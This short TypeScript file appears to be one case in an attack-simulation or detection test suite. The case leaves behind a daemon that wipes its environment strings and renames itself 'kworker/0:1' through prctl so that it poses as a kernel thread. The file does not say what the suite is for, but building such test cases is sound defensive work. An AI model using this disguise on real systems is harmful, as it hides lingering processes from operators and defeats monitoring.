/** The same, without the environment by which it could be known, under the name of a thread of the kernel. */
import { attack } from "../attack.ts";
import { leaveDaemon } from "../daemon.ts";

/** The bytes of the environment are where the kernel showed them in /proc from the start. */
const hide = `
    for (char **entry = environ; *entry; entry++) memset(*entry, 0, strlen(*entry));
    prctl(15, (unsigned long)"kworker/0:1", 0, 0, 0);`;

export default attack(() => ({
  "pid of the daemon": () => String(leaveDaemon(hide)),
}));
